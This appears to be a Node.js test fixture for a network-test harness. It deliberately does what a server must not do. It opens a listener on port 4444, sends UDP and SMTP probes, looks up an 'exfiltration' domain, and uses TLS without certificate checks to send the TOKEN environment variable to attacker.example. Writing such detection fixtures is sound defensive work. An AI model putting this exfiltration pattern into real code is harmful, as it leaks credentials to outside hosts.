// What the harness of the network test has to notice: a program that does what the server must not do.
const { createSocket } = require('node:dgram');
const { lookup } = require('node:dns/promises');
const { createServer } = require('node:net');
const { connect } = require('node:tls');

async function misbehave() {
  createServer().listen(4444);
  createSocket('udp4').send('x', 9, '198.51.100.1');
  await lookup('exfiltration.attacker.example');
  const socket = connect({
    host: '198.51.100.7',
    port: 443,
    servername: 'attacker.example',
    rejectUnauthorized: false,
  });
  socket.on('error', () => {});
  socket.once('data', () => setTimeout(() => process.exit(0), 200));
  socket.on('secureConnect', () => {
    socket.write(`GET / HTTP/1.1\r\nhost: attacker.example\r\nauthorization: ${process.env.TOKEN}\r\n\r\n`);
  });
  // A port that nobody answers: only the counters can tell.
  require('node:net')
    .connect(25, '198.51.100.8')
    .on('error', () => {});
}

void misbehave();
// Where nothing answers, it ends all the same.
setTimeout(() => process.exit(0), 10_000);
